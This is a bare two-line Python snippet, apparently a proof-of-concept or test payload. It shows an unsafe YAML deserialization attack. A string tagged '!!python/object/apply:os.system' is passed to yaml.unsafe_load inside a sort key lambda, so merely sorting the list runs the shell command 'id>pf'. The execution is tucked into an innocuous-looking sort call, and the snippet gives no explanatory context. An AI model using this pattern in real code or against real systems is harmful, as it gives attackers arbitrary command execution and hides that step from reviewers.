import yaml
sorted(["!!python/object/apply:os.system [id>pf]", "a"], key=lambda t, y=yaml: str(y.unsafe_load(t)))
